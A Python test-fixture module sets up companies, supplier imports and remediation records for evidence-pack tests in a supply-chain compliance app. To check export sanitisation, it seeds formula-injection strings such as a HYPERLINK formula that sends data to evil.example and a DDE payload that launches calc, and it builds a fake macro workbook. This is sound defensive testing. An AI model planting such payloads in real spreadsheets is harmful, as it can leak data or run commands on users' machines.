"""Companies with real data for evidence-pack tests: generated supplier workbooks imported through
the real upload and import services, findings, actions and remedy through the remediation ones."""

from __future__ import annotations

import zipfile
from dataclasses import dataclass, replace
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import func, select

from sample_data.generate import generate_suppliers, write_xlsx
from supplychain.config import Settings
from supplychain.db.engine import Database
from supplychain.db.models import Supplier, User
from supplychain.services import accounts, imports, uploads
from supplychain.services.jobs import JobContext
from supplychain.services.remediation import actions, findings, remedy
from supplychain.tasks.inprocess import InProcessRunner
from tests.integration.conftest import Tenant

EVIDENCE_KEY = "server evidence key for tests"


@dataclass(frozen=True)
class Company:
    tenant: Tenant
    upload_ids: list[int]
    supplier_ids: list[int]
    finding_id: int | None = None


@pytest.fixture
def settings(settings: Settings) -> Settings:
    """The shared settings plus a server evidence key, so packs carry an HMAC."""
    return replace(settings, evidence_hmac_key=EVIDENCE_KEY)


def import_file(db: Database, settings: Settings, tenant: Tenant, path: Path) -> int:
    with db.transaction() as s:
        upload, _ = uploads.register(
            s, tenant.company_id, None, path, path.name, settings.upload_dir
        )
        upload_id = upload.id
    ctx = JobContext(db, settings)
    imports.queue_import(
        ctx, InProcessRunner(ctx, background=False), tenant.company_id, upload_id, None
    )
    return upload_id


# Supplier names a spreadsheet could take for formulas (RELIABILITY #51), given to company A.
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1 Trading",
    "-2+3 Textiles",
    "@SUM(1) Garments",
    "=cmd|' /C calc'!A0",
)


def generated_workbook(
    tmp_path: Path, rows: int, seed: int, name: str = "suppliers.xlsx", names: tuple = ()
) -> Path:
    """A generated supplier workbook; ``names`` replace the names of its first rows."""
    path = tmp_path / name
    frame = generate_suppliers(rows, seed=seed, bad_rows=False)
    for row, supplier in enumerate(names):
        frame.loc[row, "Supplier Name"] = supplier
    write_xlsx(frame, path)
    return path


def with_macros(workbook: Path) -> Path:
    """The same workbook saved as .xlsm with a VBA project part."""
    target = workbook.with_suffix(".xlsm")
    with (
        zipfile.ZipFile(workbook) as src,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for item in src.infolist():
            dst.writestr(item, src.read(item))
        dst.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 not really VBA")
    return target


def supplier_ids(db: Database, tenant: Tenant) -> list[int]:
    with db.reading() as s:
        return list(
            s.scalars(
                select(Supplier.id)
                .where(Supplier.company_id == tenant.company_id)
                .order_by(Supplier.id)
            )
        )


def remediate(db: Database, settings: Settings, tenant: Tenant, supplier_id: int) -> int:
    """A finding with two indicators, an action moved along and commented, and worker remedy."""
    with db.transaction() as s:
        officer = accounts.user_by_email(s, tenant.emails["compliance"])
        finding = findings.create(
            s,
            settings,
            tenant.company_id,
            officer,
            findings.NewFinding(
                supplier_id=supplier_id,
                title="Recruitment fees charged to migrant workers",
                severity="critical",
                indicators=[8, 9],
                source_type="grievance",
                description='=HYPERLINK("http://evil.example")',
                found_on=date(2026, 1, 15),
            ),
        )
        action = actions.add(
            s,
            tenant.company_id,
            officer,
            finding.id,
            actions.NewAction(
                title="Repay recruitment fees", owner="ops@acme.example", due_date=date(2026, 6, 30)
            ),
        )
        actions.change_status(s, settings, tenant.company_id, officer, action.id, "in_progress")
        actions.comment(s, tenant.company_id, officer, action.id, "@SUM(1) first repayment made")
        remedy.add(
            s,
            tenant.company_id,
            officer,
            finding.id,
            remedy.NewRemedy(
                kind="recruitment_fees",
                currency="USD",
                amount_owed="1200.00",
                workers_affected=4,
                amount_repaid="300.00",
            ),
        )
        return finding.id


@pytest.fixture
def company_a(db: Database, settings: Settings, tenant_a: Tenant, tmp_path: Path) -> Company:
    source = generated_workbook(tmp_path, 40, seed=11, names=HOSTILE_NAMES)
    first = import_file(db, settings, tenant_a, source)
    macro = with_macros(generated_workbook(tmp_path, 6, seed=12, name="more.xlsx"))
    second = import_file(db, settings, tenant_a, macro)
    ids = supplier_ids(db, tenant_a)
    finding = remediate(db, settings, tenant_a, ids[0])
    return Company(tenant_a, [first, second], ids, finding)


@pytest.fixture
def company_b(db: Database, settings: Settings, tenant_b: Tenant, tmp_path: Path) -> Company:
    upload = import_file(
        db, settings, tenant_b, generated_workbook(tmp_path, 8, seed=21, name="b.xlsx")
    )
    return Company(tenant_b, [upload], supplier_ids(db, tenant_b))


def user_id(db: Database, email: str) -> int:
    with db.reading() as s:
        return s.scalar(select(User.id).where(func.lower(User.email) == email))
